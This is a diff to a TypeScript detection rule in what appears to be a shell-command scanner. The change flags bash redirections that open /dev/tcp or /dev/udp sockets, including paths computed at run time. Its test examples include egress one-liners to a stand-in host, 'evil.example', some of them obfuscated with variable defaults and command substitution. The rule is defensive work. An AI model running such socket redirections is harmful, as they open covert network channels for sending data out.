@@ -1,11 +1,23 @@
 // egress.dev-tcp: a redirection bash turns into a socket (/dev/tcp, /dev/udp), or gawk's /inet special files.
 import type { Finding } from '../types.js';
-import { componentCouldBe, resolvePath, cwdOf } from './paths.js';
+import { componentCouldBe, DYN, resolvePath, cwdOf } from './paths.js';
 import type { Rule } from './rule.js';
 import { display, markDynamic, markGlob, programName } from './words.js';
 
 const SOCKET_OPS = new Set(['>', '>>', '<', '<>', '>|', '&>', '&>>', '>&', '<&']);
 const GAWK_INET = /\/inet[46]?\/(tcp|udp)\//i;
+
+/**
+ * A target led by a value the line computes (a command substitution, a variable it set, a default), with no `/` after
+ * it: the whole of `/dev/tcp/HOST/PORT` may come from that value. The environment's own variables (`> "$LOG"`) and a
+ * path mktemp made are not.
+ */
+function computedSocket(marked: string, why: string | undefined, temp: boolean): boolean {
+  if (temp || !marked.startsWith(DYN)) return false;
+  if (why === undefined || / is not known before the command runs$/.test(why) || /temp directory|process substitution/.test(why)) return false;
+  const last = marked.lastIndexOf(DYN);
+  return !marked.slice(last + 1).includes('/');
+}
 
 export const egressDevTcp: Rule = {
   id: 'egress.dev-tcp',
@@ -21,6 +33,9 @@ export const egressDevTcp: Rule = {
       'exec 5<>"/dev/tcp/$HOST/$PORT"',
       'H=example.com; exec 3<>/dev/tcp/$H/80',
       "sh -c 'echo data > /dev/tcp/example.com/9'",
+      'echo x > /dev/${T:-tcp}/evil.example/80',
+      'echo x > "$(printf /dev/tcp/evil.example/80)"',
+      'echo x > /dev/$(echo tcp)/evil.example/80',
       'echo hi >>/dev/tcp/example.com/9',
       'timeout 2 cat 0</dev/tcp/example.com/22',
       'cat < /dev//tcp/example.com/80',
@@ -36,6 +51,10 @@ export const egressDevTcp: Rule = {
       'netstat -tn',
       'echo oops 2>/dev/stderr',
       'exec 3>/tmp/devtcp',
+      'echo x > "$(mktemp)"',
+      'echo x > "$LOG"',
+      'exec > >(tee build.log) 2>&1; make',
+      'echo x > "$(git rev-parse --show-toplevel)/build/out.log"',
       'ss -tlnp',
       "awk '{print $1}' /var/log/inet.log",
     ],
@@ -48,14 +67,16 @@ export const egressDevTcp: Rule = {
         if (!t || !SOCKET_OPS.has(r.op)) continue;
         const ctx = { cwd: cwdOf(seg), home: analysis.home, dialect: seg.dialect };
         const paths = t.values === null ? [markDynamic(t.text, ctx)] : t.values.map((v) => (t.glob ? markGlob(v, seg.dialect) : v));
+        // A component computed at run time may be tcp or udp (`/dev/${T:-tcp}/h/80`).
         const socket = paths
           .map((p) => resolvePath(p, ctx))
-          .find((p) => componentCouldBe(p, 0, 'dev') && (componentCouldBe(p, 1, 'tcp') || componentCouldBe(p, 1, 'udp')));
-        if (socket === undefined) continue;
+          .find((p) => componentCouldBe(p, 0, 'dev') && (componentCouldBe(p, 1, 'tcp') || componentCouldBe(p, 1, 'udp') || p.split('/').filter((c) => c !== '')[1]?.includes(DYN) === true));
+        const computed = socket === undefined && t.values === null && computedSocket(paths[0]!, t.dynamic, t.temp === true);
+        if (socket === undefined && !computed) continue;
         findings.push({
           rule: 'egress.dev-tcp',
           kind: 'egress',
-          message: `redirection to ${display(t)} opens a network socket (/dev/tcp, /dev/udp)`,
+          message: computed ? `redirection to ${display(t)}, a path the line computes (${t.dynamic ?? 'computed'}), which may be /dev/tcp or /dev/udp: bash would open a network socket` : `redirection to ${display(t)} opens a network socket (/dev/tcp, /dev/udp)`,
           span: r.span,
           segment: index,
         });
